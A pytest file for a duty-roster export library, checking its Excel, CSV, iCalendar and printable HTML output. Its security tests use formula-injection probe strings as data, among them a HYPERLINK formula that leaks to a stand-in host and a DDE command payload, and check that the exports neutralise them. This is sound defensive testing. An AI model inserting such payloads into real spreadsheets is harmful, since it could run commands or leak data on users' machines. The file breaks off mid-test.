"""Exports: Excel, CSV, iCalendar and printable HTML, re-read and compared with the plan."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

import dutyplan
from dutyplan.errors import DutyplanError
from dutyplan.export import FORMATS, export, to_csv, to_excel, to_html, to_ics
from dutyplan.export.cells import csv_safe
from dutyplan.plan import Assignment, Plan, Result
from dutyplan.problem import Problem

EXCEL_FORBIDDEN = set("[]:*?/\\")
# a security probe's cell texts: a spreadsheet runs each as a formula
HYPERLINK = '=HYPERLINK("http://x.invalid/?leak","click")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# what XML 1.0 forbids (tab, LF, CR allowed), DEL and C1: never in an exported file
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def problem() -> Problem:
    return dutyplan.load_example("shangzhuang")


@pytest.fixture(scope="module")
def plan(problem: Problem) -> Plan:
    return dutyplan.solve(problem, time_limit=5, workers=1, seed=0, deterministic=True)


@pytest.fixture(scope="module")
def awkward() -> tuple[Problem, Plan]:
    """A plan built by hand (no solver) with names that stress the exporters: sheet-title
    characters, long names, a site called "uncovered", HTML markup in names, person
    ids that are not file names, 20 days (two HTML roster tables), floating local time, a
    night shift crossing midnight, a site nobody works at and gate-shifts left uncovered."""
    problem = Problem(
        name="Nord/Süd <test>",
        horizon={"start": "2024-01-01", "days": 20},
        shift_types=[
            {"id": "D", "name": "day & <early>", "start": "08:00", "minutes": 480},
            {"id": "N", "start": "22:00", "minutes": 600},
        ],
        sites=[
            {
                "id": "s/1",
                "name": "Gate [A]: north*?/\\",
                "location": {"lat": 48.1, "lon": 11.5},
                "gates": [{"id": "g1", "name": "<main> & 'side'", "demand": {"D": 1, "N": 1}}],
            },
            {
                "id": "s2",
                "name": "A site with a very long name, over 31 characters",
                "gates": [{"id": "a", "demand": {"D": 1}}, {"id": "b", "demand": {"N": 1}}],
            },
            {"id": "s3", "name": "uncovered", "gates": [{"id": "g", "demand": {"D": 1}}]},
            {
                "id": "s4",
                "name": "A site with a very long name, over 31 characters, again",
                "gates": [{"id": "g", "demand": {}}],
            },
        ],
        people=[
            {"id": "a/b", "name": 'Ann <&> "Q"'},
            {"id": "A_b", "name": "Bob"},
            {"id": "con", "name": "Con"},
            {"id": "idle", "name": "Idle"},
        ],
    )
    postings = [
        ("a/b", 0, "D", "s/1", "g1"),
        ("a/b", 1, "N", "s/1", "g1"),
        ("a/b", 15, "D", "s/1", "g1"),
        ("A_b", 0, "N", "s2", "b"),
        ("A_b", 2, "D", "s2", "a"),
        ("A_b", 19, "N", "s2", "b"),
        ("con", 3, "D", "s3", "g"),
    ]
    return problem, hand_plan(problem, postings)


def hand_plan(problem: Problem, postings: list[tuple[str, int, str, str, str]]) -> Plan:
    """A plan built by hand from (person, day offset, shift, site, gate) postings."""
    assignments = []
    for person, offset, shift, site, gate in postings:
        day = problem.horizon.start + dt.timedelta(days=offset)
        assignments.append(
            Assignment(
                person=person,
                date=day,
                shift=shift,
                start=problem.shift_start(day, shift),
                end=problem.shift_end(day, shift),
                site=site,
                gate=gate,
            )
        )
    return Plan.build(problem, assignments, Result(status="feasible"))


FORMULA_POSTINGS = [
    ("=p", 0, "=D", "=s", "+g"),
    ("+p", 0, "=D", "@t", "-g"),
    ("-2+3", 1, "=D", "@t", "@g"),
    ("@p", 1, "=D", "=s", "+g"),
    ("=p", 1, "=D", "@t", "-g"),
]


@pytest.fixture(scope="module")
def formulas() -> tuple[Problem, Plan]:
    """A valid problem whose ids, names and units all start like spreadsheet formulas, and a
    plan built by hand (with commute km and gate-shifts left uncovered)."""
    problem = Problem(
        name=DDE,
        horizon={"start": "2024-01-01", "days": 3},
        shift_types=[{"id": "=D", "name": "@SUM(A1)", "start": "08:00", "minutes": 480}],
        sites=[
            {
                "id": "=s",
                "name": HYPERLINK,
                "location": {"lat": 48.10, "lon": 11.50},
                "gates": [{"id": "+g", "name": "-2+3", "demand": {"=D": 1}}],
            },
            {
                "id": "@t",
                "name": "+1+1",
                "location": {"lat": 48.20, "lon": 11.60},
                "gates": [
                    {"id": "-g", "name": DDE, "demand": {"=D": 2}},
                    {"id": "@g", "name": "=1+2", "demand": {"=D": 1}},
                ],
            },
        ],
        people=[
            {"id": "=p", "name": HYPERLINK, "unit": "@SUM(A1)", "home": {"lat": 48.0, "lon": 11.4}},
            {"id": "+p", "name": "+1+1", "unit": DDE, "home": {"lat": 48.1, "lon": 11.4}},
            {"id": "-2+3", "name": "-2+3", "unit": "-unit", "home": {"lat": 48.2, "lon": 11.4}},
            {"id": "@p", "name": "@SUM(B2)", "unit": "+unit", "home": {"lat": 48.3, "lon": 11.4}},
        ],
    )
    return problem, hand_plan(problem, FORMULA_POSTINGS)


def probe_texts(problem: Problem) -> set[str]:
    """The ids, names and units of a problem (what the workbook's cells hold)."""
    texts = {s.id for s in problem.shift_types}
    for person in problem.people:
        texts |= {person.id, person.label, person.unit or person.id}
    for site in problem.sites:
        texts |= {site.id, site.label}
        texts |= {text for gate in site.gates for text in (gate.id, gate.label)}
    return texts


def roster_code(problem: Problem, assignment: Assignment) -> str:
    """The code a per-site roster shows for an assignment: shift, and gate if several."""
    many_gates = len(problem.site(assignment.site).gates) > 1
    return f"{assignment.shift}/{assignment.gate}" if many_gates else assignment.shift


def cell_text(value: object) -> str:
    return "" if value is None else str(value)


# --------------------------------------------------------------------------- Excel


def read_workbook(path: Path):
    openpyxl = pytest.importorskip("openpyxl")
    return openpyxl.load_workbook(path)


def check_workbook(problem: Problem, plan: Plan, path: Path) -> None:
    """Every sheet of an exported workbook against the plan."""
    from dutyplan.frames import roster_frame

    workbook = read_workbook(path)
    assert workbook.sheetnames[0] == "Summary"
    site_sheets = workbook.sheetnames[1 : len(problem.sites) + 1]
    assert workbook.sheetnames[len(problem.sites) + 1 :] == ["Uncovered", "People", "Assignments"]
    label = {p.id: p.label for p in problem.people}
    assert len(set(label.values())) == len(label)
    check_summary(problem, plan, workbook, site_sheets)
    for site, title in zip(problem.sites, site_sheets, strict=True):
        sheet = workbook[title]
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
        end = rows.index([None] * len(rows[0]))  # the roster ends at the first empty row
        header, body = rows[0], rows[1:end]
        check_roster_notes(problem, plan, site, rows[end:])
        assert header[0] == "person"
        assert [value.date() for value in header[1:]] == problem.dates  # real dates
        assert sheet.freeze_panes == "B2" and sheet["A1"].font.b
        # the sheet is the roster frame, cell by cell
        roster = roster_frame(problem, plan, site.id)
        assert [row[0] for row in body] == list(roster.index)
        assert [[cell_text(v) for v in row[1:]] for row in body] == roster.values.tolist()
        # and every assignment at the site is in its person/date cell, nothing else is
        codes = {
            (row[0], day): cell_text(v).split("+")
            for row in body
            for day, v in zip(problem.dates, row[1:], strict=True)
        }
        at_site = [a for a in plan.assignments if a.site == site.id]
        for a in at_site:
            assert roster_code(problem, a) in codes[(label[a.person], a.date)]
        assert sum(len([c for c in cell if c]) for cell in codes.values()) == len(at_site)

    uncovered = list(workbook["Uncovered"].iter_rows(values_only=True))
    assert uncovered[0] == (
        "site",
        "gate",
        "date",
        "shift",
        "start",
        "end",
        "need",
        "assigned",
        "missing",
    )
    assert len(uncovered) - 1 == len(plan.uncovered)
    for row, u in zip(uncovered[1:], plan.uncovered, strict=True):
        site = problem.site(u.site)
        gate = next(g for g in site.gates if g.id == u.gate)
        expected = (
            site.label,
            gate.label,
            u.date,
            u.shift,
            u.start,
            u.end,
            u.need,
            u.assigned,
            u.missing,
        )
        assert (row[0], row[1], row[2].date(), *row[3:]) == expected

    people = list(workbook["People"].iter_rows(values_only=True))
    columns = people[0]
    got = {row[0]: dict(zip(columns, row, strict=True)) for row in people[1:]}
    assert set(got) == {s.person for s in plan.people}
    for s in plan.people:
        row = got[s.person]
        assert (row["name"], row["shifts"], row["nights"], row["weekend_shifts"]) == (
            s.name,
            s.shifts,
            s.nights,
            s.weekend_shifts,
        )
        assert row["hours"] == pytest.approx(s.minutes / 60)
        assert row["commute_km"] == pytest.approx(s.commute_km)
    assignments = list(workbook["Assignments"].iter_rows(values_only=True))
    assert len(assignments) - 1 == len(plan.assignments)


def check_summary(problem: Problem, plan: Plan, workbook: Any, site_sheets: list[str]) -> None:
    """The summary: the solve's figures, the levels, a row per site linking to its sheet, red
    where people are missing."""
    rows = [list(row) for row in workbook["Summary"].iter_rows(values_only=True)]
    facts = {row[0]: row[1] for row in rows if row[0] is not None}
    assert facts["Duty plan"] == problem.name and facts["status"] == plan.result.status
    assert facts["objective"] == plan.result.objective and facts["best bound"] == plan.result.best_bound
    assert facts["person-shifts uncovered"] == sum(c.uncovered for c in plan.coverage)
    start = next(i for i, row in enumerate(rows) if row[0] == "level")
    assert [row[:2] for row in rows[start + 1 : start + 1 + len(plan.result.levels)]] == [
        [level.name, level.value] for level in plan.result.levels
    ]
    start = next(i for i, row in enumerate(rows) if row[0] == "site")
    sheet = workbook["Summary"]
    for k, (site, title) in enumerate(zip(problem.sites, site_sheets, strict=True)):
        row = start + 2 + k  # 1-based row of the site
        assert (sheet.cell(row, 1).value, sheet.cell(row, 2).value) == (site.label, site.id)
        assert sheet.cell(row, 1).hyperlink.location == "'" + title.replace("'", "''") + "'!A1"
        short = sum(c.uncovered for c in plan.coverage if c.site == site.id)
        assert sheet.cell(row, 7).value == short
        assert (sheet.cell(row, 7).fill.fgColor.rgb == "00F4B6B6") == (short > 0)
    for name in workbook.sheetnames:
        setup = workbook[name]
        assert setup.page_setup.orientation == "landscape" and setup.page_setup.fitToWidth == 1
        assert setup.sheet_properties.pageSetUpPr.fitToPage
        if name != "Summary":
            assert setup.print_title_rows in ("1:1", "$1:$1") and setup.freeze_panes == "B2"


def check_roster_notes(problem: Problem, plan: Plan, site: Any, notes: list[list[Any]]) -> None:
    """Under a roster: the row of what is uncovered each date, then the legend."""
    uncovered = next(row for row in notes if row[0] == "uncovered")
    several = len(site.gates) > 1
    expected: dict[dt.date, list[str]] = {}
    for u in plan.uncovered:
        if u.site == site.id:
            code = f"{u.shift}/{u.gate}" if several else u.shift
            expected.setdefault(u.date, []).append(f"{code} x{u.missing}")
    got = {day: cell for day, cell in zip(problem.dates, uncovered[1:], strict=False) if cell and cell != "none"}
    assert {day: cell.split("+") for day, cell in got.items()} == expected
    legend = notes[[row[0] for row in notes].index("legend") + 1 :]
    assert [row[0] for row in legend[: len(problem.shift_types)]] == [s.id for s in problem.shift_types]
    assert [row[0] for row in legend[len(problem.shift_types) :]] == (
        [g.id for g in site.gates] if several else []
    )


def test_excel_sheets_equal_the_plan(problem: Problem, plan: Plan, tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    written = to_excel(problem, plan, tmp_path / "roster.xlsx")
    assert written == [tmp_path / "roster.xlsx"]
    check_workbook(problem, plan, written[0])
    workbook = read_workbook(written[0])
    assert workbook.sheetnames[1:5] == ["东小营村", "李家坟村", "上庄村", "皂甲屯村"]
    working = {a.person for a in plan.assignments}
    on_duty = {p.label for p in problem.people if p.id in working}
    from dutyplan.frames import roster_frame

    listed = {
        row[0]
        for site, name in zip(problem.sites, workbook.sheetnames[1:5], strict=True)
        for row in workbook[name].iter_rows(
            min_row=2, max_row=1 + len(roster_frame(problem, plan, site.id)), values_only=True
        )
    }
    assert listed == on_duty and on_duty
    assert all(any("\u4e00" <= ch <= "\u9fff" for ch in name) for name in listed)  # names, not ids
    people = workbook["People"]
    assert "海淀区某国有集团（下沉干部）" in [c.value for c in people["C"]]
    # fitted widths: a CJK unit name is wider than the shift count column
    assert people.column_dimensions["C"].width > people.column_dimensions["E"].width
    assert workbook["Assignments"]["D2"].number_format == "yyyy-mm-dd hh:mm"


def test_excel_sheet_titles_are_valid_and_distinct(
    awkward: tuple[Problem, Plan], tmp_path: Path
) -> None:
    pytest.importorskip("pandas")
    problem, plan = awkward
    (path,) = to_excel(problem, plan, tmp_path)
    assert path == tmp_path / "Nord_Süd_test.xlsx"
    check_workbook(problem, plan, path)  # the hand-built plan has uncovered gate-shifts
    assert len(plan.uncovered) > 0
    titles = read_workbook(path).sheetnames
    assert titles[0] == "Summary"
    assert titles[1] == "Gate _A__ north____"
    assert titles[2] == "A site with a very long name, o"
    assert titles[3] == "uncovered (2)"  # "Uncovered" is the table's, whatever the case
    assert titles[4] == "A site with a very long nam (2)"
    assert len({t.casefold() for t in titles}) == len(titles)
    assert all(len(t) <= 31 and not EXCEL_FORBIDDEN & set(t) for t in titles)


# --------------------------------------------------------------------------- CSV


def test_csv_files_equal_the_frames(problem: Problem, plan: Plan, tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    from dutyplan.frames import (
        assignments_frame,
        coverage_frame,
        people_frame,
        person_sites_frame,
        roster_frame,
    )

    written = to_csv(problem, plan, tmp_path / "csv")
    names = [p.name for p in written]
    assert names == ["assignments.csv", "uncovered.csv", "people.csv", "person_sites.csv",
                     "coverage.csv"] + [f"roster_{s.id}.csv" for s in problem.sites]
    for path in written:
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8

    def read(name: str, **options) -> pd.DataFrame:
        return pd.read_csv(tmp_path / "csv" / name, encoding="utf-8-sig", **options)

    def as_written(frame: pd.DataFrame) -> pd.DataFrame:
        """Ids as text, dates as ISO text, clock times as instants (the file has their offset)."""
        frame = frame.copy()
        for column in frame.columns:
            if isinstance(frame[column].dtype, pd.CategoricalDtype):
                frame[column] = frame[column].astype(object)
        if "date" in frame:
            frame["date"] = frame["date"].dt.strftime("%Y-%m-%d")
        for column in ("start", "end"):
            if column in frame:
                frame[column] = frame[column].dt.tz_convert("UTC")
        return frame

    def read_times(name: str) -> pd.DataFrame:
        frame = read(name)
        for column in ("start", "end"):
            frame[column] = pd.to_datetime(frame[column], utc=True)
        return frame

    assert "2020-02-28 08:00:00+08:00" in (tmp_path / "csv" / "assignments.csv").read_text(encoding="utf-8-sig")
    pd.testing.assert_frame_equal(
        read_times("assignments.csv"), as_written(assignments_frame(plan, problem)), check_dtype=False
    )
    pd.testing.assert_frame_equal(
        read_times("coverage.csv"), as_written(coverage_frame(problem, plan)), check_dtype=False
    )
    pd.testing.assert_frame_equal(
        read("people.csv"), as_written(people_frame(plan, problem)), check_dtype=False
    )
    pd.testing.assert_frame_equal(
        read("person_sites.csv"), as_written(person_sites_frame(plan, problem)), check_dtype=False
    )
    uncovered = read("uncovered.csv")
    assert len(uncovered) == len(plan.uncovered)
    assert list(
        zip(
            uncovered["site"],
            uncovered["gate"],
            uncovered["date"],
            uncovered["missing"],
            strict=True,
        )
    ) == [(u.site, u.gate, u.date.isoformat(), u.missing) for u in plan.uncovered]
    for site in problem.sites:
        roster = read(f"roster_{site.id}.csv", index_col=0, keep_default_na=False, dtype=str)
        expected = roster_frame(problem, plan, site.id)
        expected.columns = [day.strftime("%Y-%m-%d") for day in expected.columns]
        pd.testing.assert_frame_equal(roster, expected, check_dtype=False)
    assert "上庄村" in (tmp_path / "csv" / "coverage.csv").read_text(encoding="utf-8-sig")


def test_csv_roster_file_names_are_safe(awkward: tuple[Problem, Plan], tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    problem, plan = awkward
    names = [p.name for p in to_csv(problem, plan, tmp_path)]
    assert names[5:] == ["roster_s_1.csv", "roster_s2.csv", "roster_s3.csv", "roster_s4.csv"]


# --------------------------------------------------------------------------- iCalendar


def read_calendars(paths: list[Path]) -> dict[str, Any]:
    icalendar = pytest.importorskip("icalendar")
    calendars = {}
    for path in paths:
        raw = path.read_bytes()
        assert raw.count(b"\n") == raw.count(b"\r\n")  # CRLF line endings only
        assert all(len(line) <= 75 for line in raw.split(b"\r\n"))  # folded lines (octets)
        calendars[path.stem] = icalendar.Calendar.from_ical(raw)
    return calendars


def calendar_events(calendars: dict[str, Any], person_of_file: dict[str, str]) -> Counter:
    """(person, start, end, site label) of every VEVENT, with times as naive local times."""
    events: Counter = Counter()
    for stem, calendar in calendars.items():
        for event in calendar.walk("VEVENT"):
            events[
                (
                    person_of_file[stem],
                    event.decoded("dtstart").replace(tzinfo=None),
                    event.decoded("dtend").replace(tzinfo=None),
                    str(event["location"]),
                )
            ] += 1
    return events


def test_ics_events_equal_the_assignments(problem: Problem, plan: Plan, tmp_path: Path) -> None:
    pytest.importorskip("icalendar")
    written = to_ics(problem, plan, tmp_path / "ics")
    on_duty = {a.person for a in plan.assignments}
    assert sorted(p.stem for p in written) == sorted(on_duty)  # the ids are file-safe here
    calendars = read_calendars(written)
    expected = Counter(
        (a.person, a.start, a.end, problem.site(a.site).label) for a in plan.assignments
    )
    assert calendar_events(calendars, {p: p for p in on_duty}) == expected

    person = {p.id: p for p in problem.people}
    uids = []
    for stem, calendar in calendars.items():
        assert str(calendar["prodid"]) == "-//dutyplan//duty calendar//EN"
        assert str(calendar["version"]) == "2.0"
        assert person[stem].label in str(calendar["x-wr-calname"])
        assert [str(tz["tzid"]) for tz in calendar.walk("VTIMEZONE")] == ["Asia/Shanghai"]
        for event in calendar.walk("VEVENT"):
            start = event.decoded("dtstart")
            assert start.tzinfo is not None and start.tzinfo.key == "Asia/Shanghai"
            assert event["dtstart"].params["TZID"] == "Asia/Shanghai"
            assert event.decoded("dtend").tzinfo.key == "Asia/Shanghai"
            assert start.utcoffset() == dt.timedelta(hours=8)
            assert "dtstamp" in event
            uids.append(str(event["uid"]))
            site = next(s for s in problem.sites if s.label == str(event["location"]))
            assert str(event["summary"]).endswith(f" · {site.label}")
            assert (event["geo"].latitude, event["geo"].longitude) == (
                site.location.lat,
                site.location.lon,
            )
    assert len(set(uids)) == len(plan.assignments)
    # summary: shift name · gate name · site name
    first = plan.assignments[0]
    site = problem.site(first.site)
    gate = next(g for g in site.gates if g.id == first.gate)
    summaries = {str(e["summary"]) for e in calendars[first.person].walk("VEVENT")}
    assert f"{problem.shift_type(first.shift).label} · {gate.label} · {site.label}" in summaries
    # exporting again gives the same UIDs (calendar apps update instead of duplicating)
    again = read_calendars(to_ics(problem, plan, tmp_path / "again"))
    assert sorted(str(e["uid"]) for c in again.values() for e in c.walk("VEVENT")) == sorted(uids)


def test_ics_floating_time_and_safe_file_names(
    awkward: tuple[Problem, Plan], tmp_path: Path
) -> None:
    pytest.importorskip("icalendar")
    problem, plan = awkward
    assert problem.horizon.timezone is None
    written = to_ics(problem, plan, tmp_path)
    assert [p.name for p in written] == ["a_b.ics", "A_b-2.ics", "con_.ics"]  # no idle.ics
    calendars = read_calendars(written)
    person_of_file = {"a_b": "a/b", "A_b-2": "A_b", "con_": "con"}
    expected = Counter(
        (a.person, a.start, a.end, problem.site(a.site).label) for a in plan.assignments
    )
    assert calendar_events(calendars, person_of_file) == expected
    for calendar in calendars.values():
        assert not calendar.walk("VTIMEZONE")
        for event in calendar.walk("VEVENT"):
            assert event.decoded("dtstart").tzinfo is None  # floating local time
            assert "TZID" not in event["dtstart"].params
    night = next(e for e in calendars["a_b"].walk("VEVENT") if e.decoded("dtstart").hour == 22)
    assert night.decoded("dtend") == dt.datetime(2024, 1, 3, 8, 0)  # crosses midnight
    assert "geo" not in calendars["A_b-2"].walk("VEVENT")[0]  # site without coordinates


# --------------------------------------------------------------------------- HTML


def parse_html(path: Path) -> ET.Element:
    """The page parsed as XML: proves every tag is closed and every entity escaped."""
    text = path.read_text(encoding="utf-8")
    assert text.startswith("<!DOCTYPE html>\n")
    return ET.fromstring(text.removeprefix("<!DOCTYPE html>\n"))


def test_html_is_well_formed_with_a_page_per_site(
    problem: Problem, plan: Plan, tmp_path: Path
) -> None:
    pytest.importorskip("pandas")
    from dutyplan.frames import roster_frame

    (path,) = to_html(problem, plan, tmp_path / "roster.html")
    page = parse_html(path)
    assert page.get("lang") == "zh"
    assert page.find("head/meta").get("charset") == "utf-8"
    style = page.find("head/style").text
    assert "@page { size: A4 landscape; margin: 10mm; }" in style
    assert "break-after: page" in style and "page-break-after: always" in style
    for font in (
        "Noto Sans CJK SC",
        "Source Han Sans SC",
        "PingFang SC",
        "Microsoft YaHei",
        "WenQuanYi Zen Hei",
    ):
        assert f'"{font}"' in style
    assert not re.search(r"(src|href)=", path.read_text(encoding="utf-8"))  # no external resources
    sections = page.findall("body/section")
    assert [s.get("data-site") for s in sections] == [s.id for s in problem.sites]
    for site, section in zip(problem.sites, sections, strict=True):
        assert section.get("class") == "site"
        assert section.find("h1").text == site.label
        (table,) = section.findall("table[@class='roster']")
        heads = table.findall("thead/tr/th")[1:]
        assert len(heads) == len(problem.dates)
        for head, day in zip(heads, problem.dates, strict=True):
            weekday = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")[day.weekday()]
            assert (head.text, head.find("br").tail) == (weekday, day.strftime("%m-%d"))
            assert head.get("class") == ("weekend" if problem.is_weekend(day) else "workday")
        roster = roster_frame(problem, plan, site.id)
        body = [
            [row.find("th").text] + [td.text or "" for td in row.findall("td")]
            for row in table.findall("tbody/tr")
        ]
        assert body == [
            [label, *codes]
            for label, codes in zip(roster.index, roster.values.tolist(), strict=True)
        ]
        legend = section.find("div[@class='notes']/table[@class='legend']")
        assert [tr.find("td").text for tr in legend.findall("tbody/tr")] == [
            s.id for s in problem.shift_types
        ]
        short = [u for u in plan.uncovered if u.site == site.id]
        rows = section.findall("div/div[@class='uncovered']/table/tbody/tr")
        assert len(rows) == len(short)
        assert [int(tr.findall("td")[-1].text) for tr in rows] == [u.missing for u in short]
    text = ET.tostring(page, encoding="unicode")
    on_duty = next(p.label for p in problem.people if any(a.person == p.id for a in plan.assignments))
    assert on_duty in text and "上庄村主路卡口" in text


def test_html_embeds_the_glyphs_of_its_chinese_names(
    problem: Problem, plan: Plan, tmp_path: Path
) -> None:
    """A reader without a CJK font sees the names: the page carries a font with exactly the
    glyphs it uses (cut from the bundled one), last in its font stack before the generic."""
    pytest.importorskip("pandas")
    from fontTools.ttLib import TTFont

    from dutyplan.fonts import FAMILY

    (path,) = to_html(problem, plan, tmp_path / "roster.html")
    page = parse_html(path)
    style = page.find("head/style").text
    assert f'"{FAMILY}", sans-serif' in style
    (data,) = re.findall(r"url\(data:font/woff;base64,([A-Za-z0-9+/=]+)\)", style)
    font = TTFont(io.BytesIO(base64.b64decode(data)))
    assert font.flavor == "woff"
    covered = set(font.getBestCmap())
    body = "".join(page.find("body").itertext())
    assert {ord(c) for c in body if c.isprintable()} - covered == set()  # all it shows
    assert len(covered) < 1000 and len(data) < 400_000  # only those: the page stays small


def test_html_escapes_names_and_splits_long_horizons(
    awkward: tuple[Problem, Plan], tmp_path: Path
) -> None:
    pytest.importorskip("pandas")
    problem, plan = awkward
    (path,) = to_html(problem, plan, tmp_path)
    assert path == tmp_path / "Nord_Süd_test.html"
    page = parse_html(path)
    assert page.get("lang") == "en"
    assert page.find("head/title").text.startswith("Nord/Süd <test>")
    sections = page.findall("body/section")
    first, empty = sections[0], sections[3]
    assert first.find("h1").text == "Gate [A]: north*?/\\"
    tables = first.findall("table[@class='roster']")
    assert [len(t.findall("thead/tr/th")) - 1 for t in tables] == [14, 6]  # 20 days, two tables
    assert tables[0].find("tbody/tr/th").text == 'Ann <&> "Q"'
    assert first.find("div/div/table/tbody/tr/td[3]").text == "<main> & 'side'"
    assert "day & <early>" in [td.text for td in first.iter("td")]
    assert empty.find("p[@class='none']").text == "Nobody is on duty at this site."
    assert "22:00-08:00 (+1)" in [td.text for td in first.iter("td")]


# --------------------------------------------------------------------------- formulas and controls


def test_excel_writes_formula_like_text_as_text(
    formulas: tuple[Problem, Plan], tmp_path: Path
) -> None:
    pytest.importorskip("pandas")
    problem, plan = formulas
    (path,) = to_excel(problem, plan, tmp_path / "probe.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/[^/]+\.xml", n)]
        assert len(sheets) == len(problem.sites) + 4  # summary, rosters, three tables
        for name in sheets:
            assert not re.search(rb"<(\w+:)?f[\s/>]", archive.read(name)), name  # no formula
    workbook = read_workbook(path)
    texts = set()
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    texts.add(cell.value)
    assert probe_texts(problem) <= texts  # the text itself is kept, unchanged
    assert "=D/-g" in texts  # a roster code (shift/gate) starting with "="
    assert workbook.properties.title == DDE
    check_workbook(problem, plan, path)


def read_csv_rows(path: Path) -> list[dict[str, str]]:
    """The rows of an exported CSV file as dicts, after checking no cell starts a formula
    except behind the ``'`` that makes it text."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_neutralises_formula_like_text(formulas: tuple[Problem, Plan], tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    from dutyplan.frames import coverage_frame, roster_frame

    problem, plan = formulas
    written = to_csv(problem, plan, tmp_path)
    tables = {path.stem: read_csv_rows(path) for path in written}
    label = {p.id: p.label for p in problem.people}
    unit = {p.id: p.unit for p in problem.people}
    sites = {s.id: s for s in problem.sites}
    gates = {(s.id, g.id): g for s in problem.sites for g in s.gates}

    people = {row["person"]: row for row in tables["people"]}
    assert set(people) == {"'" + s.person for s in plan.people}
    for s in plan.people:
        row = people["'" + s.person]
        assert (row["name"], row["unit"], int(row["n_sites"])) == ("'" + s.name, "'" + s.unit, len(s.sites))
        # numbers stay numbers
        assert (int(row["shifts"]), int(row["nights"])) == (s.shifts, s.nights)
        assert float(row["hours"]) == pytest.approx(s.minutes / 60)
        assert float(row["commute_km"]) == pytest.approx(s.commute_km)
    assert any(s.commute_km > 0 for s in plan.people)
    assert sorted((r["person"], r["site"]) for r in tables["person_sites"]) == sorted(
        ("'" + s.person, "'" + site) for s in plan.people for site in s.sites
    )

    assignments = tables["assignments"]
    assert len(assignments) == len(plan.assignments)
    for row, a in zip(assignments, plan.assignments, strict=True):
        expected = (a.person, a.shift, a.site, a.gate, label[a.person], unit[a.person])
        expected += (sites[a.site].label, gates[(a.site, a.gate)].label)
        got = ("person", "shift", "site", "gate", "person_name", "unit", "site_name", "gate_name")
        assert tuple(row[key] for key in got) == tuple("'" + text for text in expected)
        assert (row["date"], float(row["hours"])) == (a.date.isoformat(), 8.0)

    assert [(r["site"], r["gate_name"], int(r["missing"])) for r in tables["uncovered"]] == [
        ("'" + u.site, "'" + gates[(u.site, u.gate)].label, u.missing) for u in plan.uncovered
    ]
    coverage = coverage_frame(problem, plan)
    assert [(int(r["demand"]), int(r["assigned"])) for r in tables["coverage"]] == list(
        zip(coverage["demand"], coverage["assigned"], strict=True)
    )
    for site, path in zip(problem.sites, written[5:], strict=True):
        roster = roster_frame(problem, plan, site.id)
        rows = tables[path.stem]
        assert [row["person"] for row in rows] == ["'" + name for name in roster.index]
        assert [[row[day.strftime("%Y-%m-%d")] for day in roster.columns] for row in rows] == [
            ["'" + code if code else "" for code in codes] for codes in roster.values.tolist()
        ]


def test_csv_safe_quotes_text_only() -> None:
    pd = pytest.importorskip("pandas")

    index = pd.Index(["@i", "j", "\tk", "\rl"], name="-who")
    frame = pd.DataFrame(
        {
            "=h": ["-1", "=A1", "a=b", None],
            "n": [-1, 2, -3, 4],
            "x": [-1.5, 0.5, float("nan"), -2.0],
            "+day": [dt.date(2024, 1, 1)] * 4,
        },
        index=index,
    )
    safe = csv_safe(frame)
    assert list(safe.columns) == ["'=h", "n", "x", "'+day"]
    assert list(safe.index) == ["'@i", "j", "'\tk", "'\rl"] and safe.index.name == "'-who"
    assert safe["'=h"].tolist()[:3] == ["'-1", "'=A1", "a=b"] and safe["'=h"].isna().iloc[3]
    assert safe["n"].tolist() == [-1, 2, -3, 4] and safe["n"].dtype == frame["n"].dtype
    assert safe["x"].dtype == frame["x"].dtype
    assert safe["x"].tolist()[:2] == [-1.5, 0.5] and safe["x"].isna().iloc[2]
    assert safe["'+day"].tolist() == frame["+day"].tolist()
    assert list(frame.columns) == ["=h", "n", "x", "+day"]  # the frame itself is unchanged
    lines = safe.to_csv().splitlines()
    assert lines[1] == "'@i,'-1,-1,-1.5,2024-01-01"


def test_exports_replace_control_characters(
    formulas: tuple[Problem, Plan], tmp_path: Path
) -> None:
    """Ids and names with NUL, escape sequences and tabs, set without validation (the model
    refuses them): every export still works and writes none of the control characters."""
    pytest.importorskip("pandas")
    pytest.importorskip("openpyxl")
    pytest.importorskip("icalendar")
    valid, _ = formulas
    problem = valid.model_copy(deep=True)
    problem.name = "probe\x00\x1b[2J"
    problem.people[0].name = "\x1b[31mred\x1b[0m"
    problem.people[1].id = "a\x00b"
    problem.people[1].unit = "t\tab\x0b\x0c\x7f\x85\x9f"
    problem.people[2].name = "t\tab"
    problem.people[3].name = "\tlead\x01"
    problem.sites[0].name = "site\x00\x1b]0;title\x07"
    problem.sites[1].id = "s\x1f"
    problem.sites[1].gates[0].name = "gate\x08\x0e"
    problem.shift_types[0].name = "day\x1b[1m"
    renamed = {"+p": "a\x00b", "@t": "s\x1f"}
    plan = hand_plan(
        problem,
        [tuple(renamed.get(item, item) for item in posting) for posting in FORMULA_POSTINGS],
    )
    red = "\ufffd[31mred\ufffd[0m"

    (xlsx,) = to_excel(problem, plan, tmp_path / "probe.xlsx")
    with zipfile.ZipFile(xlsx) as archive:
        for name in archive.namelist():
            assert not CONTROL.search(archive.read(name).decode("utf-8")), name
    workbook = read_workbook(xlsx)
    people = [row[:3] for row in workbook["People"].iter_rows(min_row=2, values_only=True)]
